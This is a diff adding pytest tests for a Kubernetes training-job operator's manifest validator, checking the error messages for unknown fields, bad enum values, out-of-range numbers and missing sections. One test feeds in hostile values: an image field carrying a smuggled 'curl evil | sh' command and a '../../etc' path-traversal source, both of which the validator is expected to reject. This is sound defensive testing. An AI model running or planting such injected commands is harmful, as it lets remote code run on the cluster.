@@ -1,0 +1,104 @@
+"""Messages for bad manifests: each names the field path, what is allowed, and what was given."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+
+from kubetune_operator.manifests import check_document
+
+
+def problems(manifest: dict[str, Any]) -> list[str]:
+    return [str(p) for p in check_document(manifest, "job.yaml").problems]
+
+
+def test_unknown_field_suggests_the_close_name(sentiment: dict[str, Any]) -> None:
+    training = sentiment["spec"]["training"]
+    training["learningrate"] = training.pop("learningRate")
+    assert problems(sentiment) == [
+        "spec.training.learningrate: unknown field; did you mean learningRate?"
+    ]
+
+
+def test_unknown_field_lists_the_allowed_ones(sentiment: dict[str, Any]) -> None:
+    sentiment["spec"]["resources"]["zzz"] = 1
+    message = problems(sentiment)[0]
+    assert message.startswith("spec.resources.zzz: unknown field; allowed here: workers, ")
+    assert "priorityClassName" in message
+
+
+def test_unknown_field_inside_a_list(sentiment: dict[str, Any]) -> None:
+    sentiment["spec"]["resources"]["tolerations"] = [{"key": "a", "efect": "NoSchedule"}]
+    assert problems(sentiment) == [
+        "spec.resources.tolerations[0].efect: unknown field; did you mean effect?"
+    ]
+
+
+def test_enum_lists_the_values_and_suggests(sentiment: dict[str, Any]) -> None:
+    sentiment["spec"]["training"]["scheduler"] = "cosin"
+    assert problems(sentiment) == [
+        "spec.training.scheduler: must be one of linear, cosine, cosine-with-restarts, constant, "
+        "polynomial, one-cycle (got 'cosin'); did you mean cosine?"
+    ]
+
+
+@pytest.mark.parametrize(
+    ("section", "field", "value", "expected"),
+    [
+        ("training", "learningRate", -0.1, "must be > 0.0 (got -0.1)"),
+        ("training", "epochs", 0, "must be >= 1 (got 0)"),
+        ("training", "epochs", "3", "must be an integer (got str '3')"),
+        ("training", "epochs", 2.5, "must be an integer (got float 2.5)"),
+        ("training", "epochs", True, "must be an integer (got a boolean)"),
+        ("training", "epochs", None, "must be an integer (got null)"),
+        ("training", "learningRate", {"a": 1}, "must be a number (got a mapping)"),
+        ("regularization", "labelSmoothing", 1.0, "must be < 1.0 (got 1.0)"),
+        ("resources", "workers", 10**12, "must be <= 256 (got 1000000000000)"),
+        ("resources", "workers", -4, "must be >= 1 (got -4)"),
+        (
+            "resources",
+            "memory",
+            "lots",
+            "must be a Kubernetes quantity such as 4, 500m, 16Gi (got 'lots')",
+        ),
+        ("runPolicy", "suspend", "yes please", "must be true or false (got str 'yes please')"),
+    ],
+)
+def test_values_out_of_range_or_of_the_wrong_type(
+    sentiment: dict[str, Any], section: str, field: str, value: Any, expected: str
+) -> None:
+    sentiment["spec"].setdefault(section, {})[field] = value
+    assert problems(sentiment) == [f"spec.{section}.{field}: {expected}"]
+
+
+def test_missing_required_sections(sentiment: dict[str, Any]) -> None:
+    del sentiment["spec"]["model"]
+    del sentiment["spec"]["data"]["train"]
+    assert problems(sentiment) == ["spec.model: is required", "spec.data.train: is required"]
+
+
+def test_huge_strings_are_shortened_in_the_message(sentiment: dict[str, Any]) -> None:
+    sentiment["spec"]["data"]["textColumn"] = "x" * 100_000
+    [message] = problems(sentiment)
+    assert message.startswith("spec.data.textColumn: must have at most 256 characters (got 100000)")
+    assert len(message) < 120
+
+
+def test_hostile_names_and_images(sentiment: dict[str, Any]) -> None:
+    sentiment["metadata"]["name"] = "a" * 41
+    sentiment["spec"]["resources"]["image"] = "trainer:1; curl evil | sh"
+    sentiment["spec"]["model"]["source"] = "pvc://models/../../etc"
+    assert problems(sentiment) == [
+        "metadata.name: must have at most 40 characters (got 41)",
+        "spec.model.source: pvc://CLAIM/PATH: the path must stay inside the claim (no '..')",
+        "spec.resources.image: must be a container image reference such as "
+        "registry.example/team/trainer:1.2 (got 'trainer:1; curl evil | sh')",
+    ]
+
+
+def test_messages_of_cross_field_rules(sentiment: dict[str, Any]) -> None:
+    sentiment["spec"]["data"]["sensitiveColumns"] = []
+    assert problems(sentiment) == [
+        "spec.bias: the audit needs data.sensitiveColumns to name at least one column"
+    ]
